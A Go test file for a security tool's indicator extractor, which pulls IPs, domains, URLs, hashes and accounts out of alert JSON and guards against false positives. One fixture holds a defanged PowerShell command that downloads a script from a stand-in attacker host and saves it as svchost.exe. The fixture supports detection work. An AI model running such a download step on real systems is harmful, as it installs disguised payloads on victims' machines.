package indicators

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func pass4(t testing.TB, raw map[string]any, ex *Exclusions) ExtractionResult {
	t.Helper()
	return ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true, Exclusions: ex})
}

func values(res ExtractionResult) []string {
	out := []string{}
	for _, ind := range res.Indicators {
		out = append(out, string(ind.Type)+":"+ind.Value)
	}
	return out
}

func TestPass4FindsEveryKindInFreeText(t *testing.T) {
	t.Parallel()
	raw := mustJSON(t, `{
		"process": {"command_line": "powershell iwr hxxps://evil[.]com/a.ps1 -OutFile C:\\Users\\x\\svchost.exe & ping 8.8.8.8:53"},
		"desc": "From 203.0.113.7 to evil[dot]org (mail bob[at]Contoso.com), sha256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855.",
		"Entities": [{"Address": "2001:db8::dead:beef"}, {"HostName": "ws-42.corp.contoso.com"}],
		"hashes": "md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
		"defanged": "hxxp://198.51.100[.]4[:]8080/x and ftp://files.example.net/y and HxXpS://bad(.)example(.)org/z"
	}`)
	res := pass4(t, raw, nil)
	require.ElementsMatch(t, []string{
		"url:https://evil.com/a.ps1", "ip:8.8.8.8", "ip:203.0.113.7", "domain:evil.org", "email:bob@contoso.com",
		"hash_sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"ip:2001:db8::dead:beef", "domain:ws-42.corp.contoso.com", "hash_md5:d41d8cd98f00b204e9800998ecf8427e",
		"hash_sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709", "url:http://198.51.100.4:8080/x", "url:ftp://files.example.net/y",
		"url:HttpS://bad.example.org/z", // the case of h, p and s is kept (URLs are stored as given)
	}, values(res))
	require.Equal(t, res.Indicators, res.Pass4)
	for i, ind := range res.Indicators {
		if ind.Value == "2001:db8::dead:beef" {
			require.Equal(t, []Origin{{Pass: 4, FieldPath: "Entities.0.Address"}}, res.ExtractedBy[i])
		}
	}
}

func TestPass4Guards(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, payload string }{
		{"reference keys", `{"alertLink": "https://evil.example.com/x", "results_link": "http://203.0.113.1/r",
			"portal_url": "https://evil.example.com/p", "alertWebUrl": "https://evil.example.com/w",
			"references": ["https://evil.example.com/ref"], "$schema": "https://evil.example.com/s",
			"@odata.context": "https://evil.example.com/o", "documentation": "see evil.example.com",
			"links": {"self": "https://evil.example.com/l"}}`},
		{"file names are not domains", `{"msg": "svchost.exe dropped report.pdf, invoice.docx and run.ps1 from a.zip"}`},
		{"internal names are not domains", `{"host": "WIN-DC01.contoso.local", "dn": "srv.corp", "i": "x.internal"}`},
		{"field names are not domains", `{"query": "process.name : cmd and user.name : x and host.id : y", "f": "CommandLine.Length"}`},
		{"version strings are not IPs", `{"os_version": "10.0.1.1", "agent": {"build": "8.1.2.3"}, "m": "agent v1.2.3.4 started", "oid": "1.3.6.1"}`},
		{"rule logic and ranges", `{"kibana.alert.rule.parameters": {"query": "destination.ip: 203.0.113.1 or dns.question.name: evil.example.com"},
			"search": "search index=main src=198.51.100.1", "note": "blocked 10.0.0.0/8 and 2001:db8::/32"}`},
		{"versions in text", `{"m": "Mozilla/5.0 Chrome/125.0.0.0 Safari/537.36, agent Version 8.1.2.3, build 10.2.3.4"}`},
		{"ids in text are not hashes", `{"m": "RequestId: 0a1b2c3d4e5f60718293a4b5c6d7e8f9 CorrelationId=ffeeddccbbaa99887766554433221100 session 00112233445566778899aabbccddeeff"}`},
		{"reversed names are packages", `{"m": "installed com.example.app and org.mozilla.fenix.app"}`},
		{"OIDs and numbers are not IPs", `{"s": "1.3.6.1.4.1.311.21.8 and 10.0.19041.1", "n": "16909060"}`},
		{"GUIDs and ids are not hashes", `{"g": "b1f4c3a2-1234-4abc-9def-0123456789ab", "SystemAlertId": "2518312345678901234abcdefabcdef1",
			"digits": "12345678901234567890123456789012", "word": "deadbeefdeadbeefdeadbeefdeadbeefx"}`},
		{"hashes only at exact length", `{"h": "d41d8cd98f00b204e9800998ecf8427 d41d8cd98f00b204e9800998ecf8427e0"}`},
		{"addresses that name no host", `{"a": "0.0.0.0 127.0.0.1 255.255.255.255 224.0.0.1 ::1 ::"}`},
		{"times and MAC addresses are not IPv6", `{"t": "10:00:00 12:34:56.789", "mac": "00:1a:2b:3c:4d:5e"}`},
		{"the people working the alert", `{"owner": {"email": "analyst@evil.example.com"}, "assignedTo": "x@evil.example.com",
			"comments": [{"createdBy": "soc@evil.example.com", "comment": "checked 203.0.113.4"}], "muteInitiator": "Unmuted by j@gmail.com",
			"assigned_user_mail": "aaa@evil.example.com"}`},
		{"names of malware, signatures and datasets", `{"malware": [{"name": "infection.family", "classification": "pva.torrent.example"}],
			"alert": {"signature": "ET MALWARE BTGrab.com Spyware"}, "event": {"dataset": "endpoint.events.network"}}`},
		{"namespaces and paths", `{"ids": "x", "src": "/subscriptions/1/providers/Microsoft.Security/connectors/a", "p": "/Applications/Terminal.app/x",
			"w": "C:\\Windows\\evil.com", "cert": "certificate for *.example.com"}`},
		{"an account's directory domain", `{"source_account_domain": "NET.example.com", "UPNSuffix": "contoso.com", "isp": "sioru.com"}`},
		{"ids, thumbprints, fingerprints, digests, ARNs", `{"code_signature": [{"thumbprint_sha256": "8b9731a4b83e801cda7b918f8194608e91f86b3a86ffb6bb24230b1cc28e1a54"}],
			"device_fingerprint": "541daf91d15bef64a7e08c946fd9a9d0", "ImageDigest": "sha256:e9e2afad74f4e80511a5cff33d3d989b9797a718425f27e549f5b1f862c058a8",
			"uid": "arn:aws:ecr:us-east-2:111:repository/x/sha256:e9e2afad74f4e80511a5cff33d3d989b9797a718425f27e549f5b1f862c058a8",
			"related": {"hosts": ["505d70d89cfa3428f7aac7d2eb3a64c60fd3d843"]}, "thread": {"start_address_bytes": "c3cc0000cccccccccccccccccccccccccccccccccccccccccccccccccccccccc",
			"start_address_bytes_disasm_hash": "aacb1c801f9030f799e2f7350f053ebb760d42cbe81cd65021063c1c4d1a9c9c"}, "event_hash": "e4f07602f507975e9f7ba47c4ae0c417",
			"quarantine_path": "C:\\.equarantine\\20a65f043449c96f10e538a860a415b55ff46c93", "agent": {"build": {"original": "commit: f8b0ed879ad40ee1ae561ced31ec8a4027a2bf53"}}}`},
		{"message ids and SSH algorithm names", `{"messageID": "<1234.5678.mail@example.com>", "cmd": "sshd -oCiphers=aes256-gcm@openssh.com,curve25519-sha256@libssh.org"}`},
		{"the sender's log sources", `{"log_sources": [{"name": "WindowsAuthServer @ 192.168.1.3"}]}`},
		{"OCSF observable names", `{"observables": [{"name": "infection.family", "type": "Other"}]}`},
		{"user agents, policies, call stacks, advisories", `{"user_agent": {"original": "Mozilla/5.0 Chrome/125.0.0.0 Safari/537.36"},
			"Endpoint": {"policy": {"artifacts": "e57a7d5638060e9655c64ac1d02f7949b87e5f5f27f2074329608db1e06d645b"}},
			"call_stack_final_hook_module": {"hash": {"sha256": "e5bfc1a2967fa513177a0327770927d9a2efa5a4f33ac18f716bae7c3f857994"}},
			"kb_articles": ["https://alas.example.com/ALAS-2020-1337.html"], "xdr_url": "https://tenant.example.com/incident-view/1",
			"externalUri": "http://www.adwait.com"}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := pass4(t, mustJSON(t, c.payload), nil)
			require.Empty(t, res.Indicators, "%v", values(res))
		})
	}
}

func TestPass4Accounts(t *testing.T) {
	t.Parallel()
	raw := mustJSON(t, `{
		"threatInfo": {"processUser": "EC2AMAZ-AJ0KANC\\Administrator"},
		"_raw": "action=\"blocked\", event.UserName=\"keval.sabhani\", target_user=root, user=xxx",
		"log": "Jan  4 11:14:32 myserver sshd[1]: Failed password for invalid user bob from 203.0.113.50 port 22",
		"sudo": "centos sudo:   agent : TTY=pts/0 ; PWD=/ ; USER=alice ; COMMAND=/bin/cat",
		"related": {"user": ["carol", "S-1-12-1-1485667349-1150190949"]},
		"output": "Kernel module loaded (user=%user.name)", "output_fields": {"user.name": "user.name"},
		"owner": {"username": "analyst1"},
		"resources": [{"data": "{\"AwsIamAccessKey\":{\"PrincipalName\":\"Admin\"}}"}]
	}`)
	res := pass4(t, raw, nil)
	require.ElementsMatch(t, []string{"account:keval.sabhani", "account:root", "ip:203.0.113.50", "account:bob",
		"account:carol", "account:alice", "account:EC2AMAZ-AJ0KANC\\Administrator", "account:Admin"}, values(res),
		"users under user keys, in key=value text and after sshd's phrases; not redactions, SIDs, templates, field names or the alert's owner")
}

func TestPass4ReadsJSONInsideStrings(t *testing.T) {
	t.Parallel()
	raw := mustJSON(t, `{"Entities": "[{\"Type\":\"ip\",\"Address\":\"198.51.100.9\"},{\"alertLink\":\"https://evil.example.com\"}]"}`)
	res := pass4(t, raw, nil)
	require.Equal(t, []string{"ip:198.51.100.9"}, values(res))
	require.Equal(t, []Origin{{Pass: 4, FieldPath: "Entities.0.Address"}}, res.ExtractedBy[0])
}

func TestPipelineRulesOnPasses2To4(t *testing.T) {
	t.Parallel()
	raw := mustJSON(t, `{"user": {"name": "SYSTEM"}, "u2": "alice", "h": "0000000000000000000000000000000000000000000000000000000000000000",
		"host": "lees-mbp.localdomain", "d": "evil.example.com"}`)
	mappings := []Mapping{
		{FieldPath: "user.name", Type: TypeAccount, Target: TargetRawPayload}, {FieldPath: "u2", Type: TypeAccount, Target: TargetRawPayload},
		{FieldPath: "h", Type: TypeSHA256, Target: TargetRawPayload}, {FieldPath: "host", Type: TypeDomain, Target: TargetRawPayload},
		{FieldPath: "d", Type: TypeDomain, Target: TargetRawPayload},
	}
	pass1 := []Indicator{{TypeAccount, "SYSTEM"}, {TypeDomain, "lees-mbp.localdomain"}}
	res := ExtractWith(nil, raw, "generic", pass1, mappings, Options{Pass4: true})
	require.Equal(t, []string{"account:SYSTEM", "domain:lees-mbp.localdomain", "account:alice", "domain:evil.example.com"}, values(res),
		"pass 1 keeps what the plugin names; passes 2-4 drop built-in accounts, placeholder hashes, names outside the public DNS")
	// Ingestion's extraction (the fingerprint) applies none of these.
	plain := Extract(nil, raw, "generic", nil, mappings)
	require.Len(t, plain.Indicators, 5)
}

func TestPass4ExclusionsSparePass1(t *testing.T) {
	t.Parallel()
	ex := NewExclusions([]string{"portal.azure.com", "*.splunkcloud.com", "10.0.0.0/8", "192.0.2.1"})
	raw := mustJSON(t, `{"u": "https://portal.azure.com/#x https://acme.splunkcloud.com/app", "ips": "10.1.2.3 192.0.2.1 192.0.2.2",
		"d": "splunkcloud.com", "mail": "ops@splunkcloud.com"}`)
	mappings := []Mapping{{FieldPath: "ips", Type: TypeIP, Target: TargetRawPayload}}
	res := ExtractWith(nil, raw, "generic", []Indicator{{TypeIP, "10.9.9.9"}}, mappings, Options{Pass4: true, Exclusions: ex})
	require.Equal(t, []string{"ip:10.9.9.9", "ip:192.0.2.2", "email:ops@splunkcloud.com"}, values(res))
	require.Equal(t, 5, res.Scan.Excluded)
}

func TestPass4OriginsAcrossPasses(t *testing.T) {
	t.Parallel()
	raw := mustJSON(t, `{"result": {"src_ip": "203.0.113.9"}}`)
	mappings := []Mapping{{FieldPath: "result.src_ip", Type: TypeIP, Target: TargetRawPayload}}
	res := ExtractWith(map[string]any{FieldSrcIP: "203.0.113.9"}, raw, "splunk", []Indicator{{TypeIP, "203.0.113.9"}},
		append(systemMappings(t), mappings...), Options{Pass4: true})
	require.Equal(t, []Indicator{{TypeIP, "203.0.113.9"}}, res.Indicators)
	require.Equal(t, [][]Origin{{{1, ""}, {2, "src_ip"}, {3, "result.src_ip"}, {4, "result.src_ip"}}}, res.ExtractedBy)
	// Without the option, pass 4 does not run (ingestion).
	require.Empty(t, Extract(nil, raw, "splunk", nil, nil).Pass4)
}

func TestParseExclusion(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"Portal.Azure.com.": "portal.azure.com", "*.SplunkCloud.com": "*.splunkcloud.com",
		"10.1.2.3/8": "10.0.0.0/8", "::ffff:192.0.2.1": "192.0.2.1", "2001:db8::/32": "2001:db8::/32"} {
		got, err := ParseExclusion(in)
		require.NoError(t, err, in)
		require.Equal(t, want, got)
	}
	for _, bad := range []string{"", " ", "a.*.com", "10.0.0.0/33", "not a host", "fe80::1%eth0", strings.Repeat("a", 300)} {
		_, err := ParseExclusion(bad)
		require.Error(t, err, bad)
	}
}

// pathological payloads of issue 43: each finishes within the budget, with bounded output.
func pathological(t testing.TB) map[string]map[string]any {
	t.Helper()
	big := make(map[string]any, 50_000)
	for i := range 50_000 {
		big[fmt.Sprintf("k%05d", i)] = fmt.Sprintf("value %d host-%d.example.com 10.%d.%d.1", i, i, i/256%256, i%256)
	}
	deep := any("203.0.113.1")
	for range 5000 {
		deep = map[string]any{"a": []any{deep}}
	}
	var ips strings.Builder
	for i := range 10_000 {
		fmt.Fprintf(&ips, "198.%d.%d.%d ", i/65536%256, i/256%256, i%256)
	}
	return map[string]map[string]any{
		"50000 strings":       big,
		"5000-deep nesting":   {"deep": deep, "z": "203.0.113.2"},
		"10000 IPs one field": {"ips": ips.String()},
		"invalid UTF-8":       {"s": "\xff\xfe evil.com \xc3\x28 203.0.113.5 \xed\xa0\x80"},
		"1M dots":             {"dots": strings.Repeat(".", 1<<20)},
	}
}

func TestPass4Pathological(t *testing.T) {
	for name, raw := range pathological(t) {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			res := ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true})
			took := time.Since(start)
			require.LessOrEqual(t, len(res.Indicators), MaxExtracted)
			require.Less(t, took, 2*time.Second, "%s took %s", name, took)
			t.Logf("%s: %d indicators, %+v, %s", name, len(res.Indicators), res.Scan, took)
		})
	}
	res := ExtractWith(nil, pathological(t)["5000-deep nesting"], "generic", nil, nil, Options{Pass4: true})
	require.Contains(t, res.Scan.Stopped, "nesting deeper")
	require.Equal(t, []string{"ip:203.0.113.2"}, values(res), "the rest of the payload is still scanned")
	res = ExtractWith(nil, pathological(t)["invalid UTF-8"], "generic", nil, nil, Options{Pass4: true})
	require.Equal(t, []string{"domain:evil.com", "ip:203.0.113.5"}, values(res))
	res = ExtractWith(nil, pathological(t)["50000 strings"], "generic", nil, nil, Options{Pass4: true})
	require.NotEmpty(t, res.Scan.Stopped)
	require.True(t, res.Truncated)
}

func BenchmarkPass4Pathological(b *testing.B) {
	for name, raw := range pathological(b) {
		b.Run(strings.ReplaceAll(name, " ", "_"), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true})
			}
		})
	}
}
